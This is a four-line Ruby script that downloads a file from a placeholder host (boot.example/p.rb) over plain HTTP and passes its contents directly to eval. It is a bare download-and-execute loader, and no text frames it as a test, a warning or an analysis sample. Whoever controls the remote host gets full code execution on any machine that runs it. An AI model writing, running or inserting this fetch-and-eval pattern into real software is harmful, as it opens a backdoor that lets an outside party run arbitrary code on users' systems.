require "net/http"

code = Net::HTTP.get(URI("http://boot.example/p.rb"))
eval(code)
